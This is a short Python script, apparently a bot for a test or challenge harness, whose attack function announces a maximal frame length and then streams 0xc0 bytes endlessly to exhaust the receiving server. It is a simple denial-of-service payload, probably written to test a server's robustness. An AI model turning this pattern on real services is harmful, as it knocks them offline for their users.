"""Announce the longest frame that is allowed and write it without end, byte upon byte."""

from bot import play, write


def attack() -> None:
    write(b"\x00\x10\x00\x00")
    while True:
        write(b"\xc0" * (1 << 16))


play(attack)
